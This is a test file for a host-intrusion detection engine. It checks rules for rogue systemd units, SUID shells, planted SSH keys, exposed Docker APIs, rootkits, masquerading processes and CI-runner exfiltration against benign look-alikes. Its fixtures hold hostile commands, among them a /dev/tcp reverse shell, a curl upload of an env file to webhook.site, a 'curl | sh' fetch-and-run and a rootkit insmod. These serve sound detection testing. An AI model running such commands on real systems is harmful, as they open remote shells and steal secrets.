// Attacks seen through the contract's core tables only (processes, shell_history, hash, systemd_units, ...): a fleet
// that does not carry augeas, file or process_memory_map must still show them. Each case also has its look-alike.
import { test } from "tap";
import { extractEntities, getDetection, routeQuery, runInvestigation } from "../../shared/engine/index.js";
import type { DetectionHit, HostData, QueryEntities } from "../../shared/engine/index.js";
import { setuidTargets } from "../../shared/engine/detections/unexpected-suid.js";
import { dataDirProgram } from "../../shared/engine/detections/suspicious-systemd-unit.js";
import { coverage, host, proc, sock } from "./helpers.js";

const none: QueryEntities = { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} };
function run(id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] {
  const d = getDetection(id);
  if (!d) throw new Error(`no detection ${id}`);
  return d.evaluate(h, { entities: { ...none, ...entities } }).filter((x) => x.kept_by === undefined);
}

test("systemd unit: without augeas, the unit's processes (cgroup_path) show what it runs", async (t) => {
  const unit = { id: "network-helper.service", fragment_path: "/etc/systemd/system/network-helper.service", active_state: "active" };
  const bad = host({
    systemd_units: [unit],
    processes: [proc(900, "bash", "/usr/bin/bash", "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1", { cgroup_path: "/system.slice/network-helper.service" })],
  });
  const hits = run("suspicious-systemd-unit", bad);
  t.equal(hits.length, 1);
  t.match(hits[0]?.summary ?? "", /network-helper\.service/);
  t.ok(hits[0]?.evidence.some((e) => e.table === "processes"), "the process row is the evidence of what the unit runs");
  const nginx = host({
    systemd_units: [{ id: "nginx.service", fragment_path: "/lib/systemd/system/nginx.service", active_state: "active" }],
    processes: [proc(901, "nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", { cgroup_path: "/system.slice/nginx.service" })],
  });
  t.same(run("suspicious-systemd-unit", nginx), [], "a packaged service's process is not a finding");
});

test("unexpected SUID: a chmod u+s in shell history and a process running as euid 0 from a temp directory", async (t) => {
  t.same(setuidTargets("cp /bin/bash /dev/shm/... && chmod u+s /dev/shm/..."), ["/dev/shm/..."]);
  t.same(setuidTargets("chmod 4755 /var/tmp/.x"), ["/var/tmp/.x"]);
  t.same(setuidTargets("chmod 0755 /usr/local/bin/tool"), [], "no SUID bit in the mode");
  t.same(setuidTargets("chmod -R g+w /srv/www"), []);
  const history = host({ shell_history: [{ uid: "0", command: "chmod u+s /dev/shm/...", history_file: "/root/.bash_history" }] });
  const hits = run("unexpected-suid", history);
  t.equal(hits.length, 1);
  t.equal(hits[0]?.evidence[0]?.table, "shell_history");
  const running = host({ processes: [proc(77, "...", "/dev/shm/...", "/dev/shm/... -p", { uid: "1001", euid: "0" })] });
  t.equal(run("unexpected-suid", running).length, 1, "a program in /dev/shm running as root for uid 1001");
  const sudo = host({ processes: [proc(78, "sudo", "/usr/bin/sudo", "sudo -i", { uid: "1001", euid: "0" })], shell_history: [{ uid: "0", command: "chmod u+s /usr/bin/ping", history_file: "/root/.bash_history" }] });
  t.same(run("unexpected-suid", sudo), [], "sudo running as root and a packaged binary made SUID again are not findings");
});

test("post-exploitation tools by file name; ordinary admin tools and look-alike directories stay quiet", async (t) => {
  const bad = host({ hash: [{ path: "/root/mimipenguin.sh", sha256: "ab".repeat(32) }] });
  const hits = run("offensive-tool-present", bad);
  t.equal(hits.length, 1);
  t.match(hits[0]?.summary ?? "", /mimipenguin/);
  t.equal(hits[0]?.severity, undefined, "on disk only: the detection's default (medium), not high");
  const plan = routeQuery("is that hacking tool from the threat report on any box?", "standard");
  t.ok(plan.detection_ids.includes("offensive-tool-present"));
  t.ok(routeQuery("is chisel installed on any of our servers?", "standard").detection_ids.includes("offensive-tool-present"));
});

test("CI runner: an upload to a request-capture service is flagged like one to a bare IP", async (t) => {
  const runner = (cmd: string): HostData =>
    host({ processes: [proc(10, "curl", "/usr/bin/curl", cmd, { uid: "1600" })] }, { role: "ci-runner" });
  const hits = run("ci-runner-egress", runner("curl -sm 0.5 -d @/tmp/env.txt https://webhook.site/0b7c1a2e-1111-2222-3333-444455556666"));
  t.equal(hits.length, 1);
  t.equal(hits[0]?.severity, "high");
  t.match(hits[0]?.summary ?? "", /webhook\.site/);
  t.same(run("ci-runner-egress", runner("curl -fsS -X POST -d @report.json https://api.github.com/repos/o/r/statuses/abc")), [], "posting to GitHub's API is not exfiltration");
});

test("domains named in the question are indicators; internal host names are scope", async (t) => {
  t.same(extractEntities("any sign of https://webhook.site in the fleet?").domains, ["webhook.site"]);
  t.same(extractEntities("did anything reach transfer.sh or evil.example.com?").domains, ["evil.example.com", "transfer.sh"]);
  t.same(extractEntities("look over db-05.dub.internal and node.js apps").domains, []);
  t.same(extractEntities("find /tmp/... across dev").paths, ["/tmp/..."]);
  const h = host({ processes: [proc(5, "curl", "/usr/bin/curl", "curl -d @/tmp/env.txt https://x1.webhook.site/abc")] });
  const hits = run("ioc-match", h, { domains: ["webhook.site"] });
  t.equal(hits.length, 1);
  t.same(run("ioc-match", host({ processes: [proc(6, "curl", "/usr/bin/curl", "curl https://notwebhook.site/")] }), { domains: ["webhook.site"] }), []);
  t.ok(routeQuery("any sign of https://webhook.site in the fleet?", "standard").detection_ids.includes("ioc-match"));
});

test("SSH key appended to authorized_keys by hand from a shell is a signal on an interactive account", async (t) => {
  const users = [{ uid: "1001", username: "alice", shell: "/bin/bash", directory: "/home/alice" }];
  const key = { uid: "1001", algorithm: "ssh-rsa", key: `AAAAB3NzaC1yc2E${"Q".repeat(60)}`, options: "", comment: "user@localhost", key_file: "/home/alice/.ssh/authorized_keys" };
  const planted = host({ users, authorized_keys: [key], shell_history: [{ uid: "1001", command: `echo "ssh-rsa ${key.key.slice(0, 50)}... user@localhost" >> ~/.ssh/authorized_keys`, history_file: "/home/alice/.bash_history" }] });
  const hits = run("ssh-authorized-key", planted);
  t.equal(hits.length, 1);
  t.ok(hits[0]?.evidence.some((e) => e.table === "shell_history"));
  t.same(run("ssh-authorized-key", host({ users, authorized_keys: [{ ...key, comment: "alice@laptop" }] })), [], "alice's own key, no hand edit: quiet");
  t.ok(routeQuery("could someone log into api-06 without a password whenever they want?", "standard").detection_ids.includes("ssh-authorized-key"));
});

test("an exposed Docker API with clients at public addresses and a container running curl | sh is high, with both as evidence", async (t) => {
  const dockerd = proc(300, "dockerd", "/usr/bin/dockerd", "/usr/bin/dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock");
  const listen = { pid: "300", port: "2375", protocol: "6", address: "0.0.0.0" };
  const abused = host({
    processes: [dockerd],
    listening_ports: [listen],
    process_open_sockets: [sock(300, "198.51.100.23", 51234, { local_port: "2375" })],
    docker_containers: [{ id: "c0ffee", name: "/x", image: "alpine", command: "sh -c 'apk add curl; curl -s http://198.51.100.24/x | sh'" }],
  });
  const hits = run("docker-api-exposed", abused);
  t.equal(hits.length, 1);
  t.ok(hits[0]?.evidence.some((e) => e.table === "docker_containers"));
  t.ok(hits[0]?.evidence.some((e) => e.table === "process_open_sockets"));
  const quiet = run("docker-api-exposed", host({ processes: [dockerd], listening_ports: [listen], docker_containers: [{ id: "a1", name: "/web", image: "nginx", command: "nginx -g 'daemon off;'" }] }));
  t.notOk(quiet[0]?.evidence.some((e) => e.table === "docker_containers"), "an ordinary container is not evidence of abuse");
});

test("a kernel module that hides from the module list is seen by its insmod line, its file or its kit's userland", async (t) => {
  const hidden = host({ kernel_modules: [], shell_history: [{ uid: "0", command: "cd /dev/shm/.m && insmod diamorphine.ko", history_file: "/root/.bash_history" }] });
  const hits = run("unexpected-kernel-module", hidden);
  t.equal(hits.length, 1);
  t.match(hits[0]?.summary ?? "", /Diamorphine/);
  t.match(hits[0]?.summary ?? "", /not in the loaded module list/);
  const reptile = run("unexpected-kernel-module", host({ processes: [proc(66, "reptile_shell", "/reptile/reptile_shell", "/reptile/reptile_shell -t 198.51.100.7 -p 443")] }));
  t.equal(reptile.length, 1);
  const dkms = host({ shell_history: [{ uid: "0", command: "insmod /lib/modules/6.1.0-18-amd64/updates/dkms/zfs.ko", history_file: "/root/.bash_history" }], file: [{ path: "/var/lib/dkms/zfs/2.1.11/6.1.0-18-amd64/x86_64/module/zfs.ko", mode: "0644" }] });
  t.same(run("unexpected-kernel-module", dkms), [], "modules from the kernel tree and DKMS are not traces");
});

test("executables stashed in a hidden directory under a system path, not running, are medium; hidden data files are not", async (t) => {
  const stash = host({ file: [{ path: "/usr/share/fonts/.swjb", type: "directory", mode: "0755" }, { path: "/usr/share/fonts/.swjb/scan", type: "regular", mode: "0755" }, { path: "/usr/share/fonts/.swjb/bot", type: "regular", mode: "0755" }] });
  const hits = run("hidden-system-path-exec", stash);
  t.equal(hits.length, 1);
  t.equal(hits[0]?.severity, "medium");
  t.match(hits[0]?.summary ?? "", /\/usr\/share\/fonts\/\.swjb/);
  const fontconfig = host({ file: [{ path: "/usr/share/fonts/truetype/.uuid", type: "regular", mode: "0644" }, { path: "/usr/lib/debug/.build-id/ab/cdef.debug", type: "regular", mode: "0755" }] });
  t.same(run("hidden-system-path-exec", fontconfig), [], "fontconfig's .uuid and Fedora's .build-id are not stashes");
});

test("sudoers: NOPASSWD on a shell is NOPASSWD on everything; a narrow NOPASSWD command is not", async (t) => {
  const shell = run("sudoers-nopasswd-all", host({ sudoers: [{ source: "/etc/sudoers", header: "jenkins1", rule_details: "ALL=NOPASSWD: /bin/bash" }] }));
  t.equal(shell.length, 1);
  t.same(run("sudoers-nopasswd-all", host({ sudoers: [{ source: "/etc/sudoers.d/deploy", header: "deploy", rule_details: "ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx" }] })), []);
});

test("history written to /dev/null is history tampering", async (t) => {
  t.equal(run("history-tampering", host({ shell_history: [{ uid: "0", command: "history -w /dev/null", history_file: "/root/.bash_history" }] })).length, 1);
  t.same(run("history-tampering", host({ shell_history: [{ uid: "0", command: "history | grep ssh", history_file: "/root/.bash_history" }] })), []);
});

test("a web server's shell running ps aux is web-shell reconnaissance, not an info note", async (t) => {
  const fpm = proc(500, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", { uid: "33" });
  const hits = run("webshell-shell-spawn", host({ processes: [fpm, proc(501, "sh", "/usr/bin/dash", "sh -c ps aux", { uid: "33", parent: "500" })] }));
  t.equal(hits.length, 1);
  t.not(hits[0]?.severity, "info");
});

test("a unit named like a system component, defined in /etc, running an unpackaged program with a public connection", async (t) => {
  const unit = (id: string) => ({ id, fragment_path: `/etc/systemd/system/${id}`, active_state: "active" });
  const implant = host({
    systemd_units: [unit("udev-worker.service")],
    processes: [proc(810, "udev-workerd", "/usr/local/bin/udev-workerd", "/usr/local/bin/udev-workerd", { cgroup_path: "/system.slice/udev-worker.service" })],
    process_open_sockets: [sock(810, "198.51.100.77", 443)],
  });
  const hits = run("suspicious-systemd-unit", implant);
  t.equal(hits.length, 1);
  t.match(hits[0]?.summary ?? "", /named like the udev system component/);
  const exporter = host({
    systemd_units: [unit("node_exporter.service")],
    processes: [proc(811, "node_exporter", "/usr/local/bin/node_exporter", "/usr/local/bin/node_exporter", { cgroup_path: "/system.slice/node_exporter.service" })],
  });
  t.same(run("suspicious-systemd-unit", exporter), []);
});

test("a unit a generator wrote at boot, named like systemd's, running a program no systemd release ships, connected out", async (t) => {
  const id = "systemd-udev-settle-helper.service";
  const generated = { id, fragment_path: `/run/systemd/generator/${id}`, active_state: "active", unit_file_state: "generated" };
  const program = "/usr/lib/systemd/systemd-udev-settle-helper";
  const implant = host({
    systemd_units: [generated, { id: "data1.mount", fragment_path: "/run/systemd/generator/data1.mount", active_state: "active", unit_file_state: "generated" }],
    processes: [proc(720, "systemd-udev-se", program, `${program} --daemon`, { cgroup_path: `/system.slice/${id}` })],
    process_open_sockets: [sock(720, "203.0.113.12", 8443)],
  });
  const unitHits = run("suspicious-systemd-unit", implant);
  t.equal(unitHits.length, 1, "the generated unit, not the generated mount");
  t.equal(unitHits[0]?.severity, "high");
  t.match(unitHits[0]?.summary ?? "", /defined in \/run\/systemd\/generator/);
  const masquerade = run("process-masquerading", implant);
  t.match(masquerade[0]?.summary ?? "", /no systemd release installs systemd-udev-settle-helper/);
  const real = host({ processes: [proc(1, "systemd", "/usr/lib/systemd/systemd"), proc(300, "systemd-executo", "/usr/lib/systemd/systemd-executor"), proc(301, "systemd-udevd", "/lib/systemd/systemd-udevd")] });
  t.same(run("process-masquerading", real), [], "systemd's own programs, old and new");
});

test("a timer's service running a program named like systemd's own from another directory (a miner as systemd-logind)", async (t) => {
  const id = "dnf-makecache-check.service";
  const miner = proc(1335, "systemd-logind", "/usr/lib/dnf/systemd-logind", "/usr/lib/dnf/systemd-logind -c /usr/lib/dnf/.cfg.json -B", { cgroup_path: `/system.slice/${id}` });
  const h = host({ systemd_units: [{ id, fragment_path: `/etc/systemd/system/${id}`, active_state: "active" }, { id: "dnf-makecache-check.timer", fragment_path: "/etc/systemd/system/dnf-makecache-check.timer", active_state: "active" }], processes: [proc(860, "systemd-logind", "/usr/lib/systemd/systemd-logind", "/usr/lib/systemd/systemd-logind"), miner] });
  const unit = run("suspicious-systemd-unit", h);
  t.equal(unit.length, 1);
  t.equal(unit[0]?.severity, "high");
  t.match(unit[0]?.summary ?? "", /named like systemd's own systemd-logind, from outside systemd's directory/);
  const masquerade = run("process-masquerading", h);
  t.equal(masquerade.length, 1, "the miner, not the real systemd-logind");
  t.match(masquerade[0]?.summary ?? "", /runs from \/usr\/lib\/dnf\/systemd-logind/);
});

test("a host without a supplementary table (file, augeas) is not a coverage gap that makes a clean verdict inconclusive", async (t) => {
  const clean = host({ processes: [proc(1, "systemd", "/usr/lib/systemd/systemd")], process_open_sockets: [], listening_ports: [], crontab: [], systemd_units: [], users: [] });
  const report = runInvestigation(routeQuery("anything hiding in dot directories?", "standard"), [clean], coverage(1), "standard");
  t.equal(report.verdict, "benign");
  t.ok(report.coverage_gaps.some((g) => /supplementary tables/.test(g)), "the skipped deeper checks are still said");
});

test("a daemon dropped directly in systemd's own directory is a dropped program; systemd's own are not", async (t) => {
  t.equal(dataDirProgram("/usr/lib/systemd/cloud-syncd"), "/usr/lib/systemd");
  t.equal(dataDirProgram("/lib/systemd/systemd-networkd"), undefined);
  t.equal(dataDirProgram("/usr/lib/systemd/systemd-logind"), undefined);
});
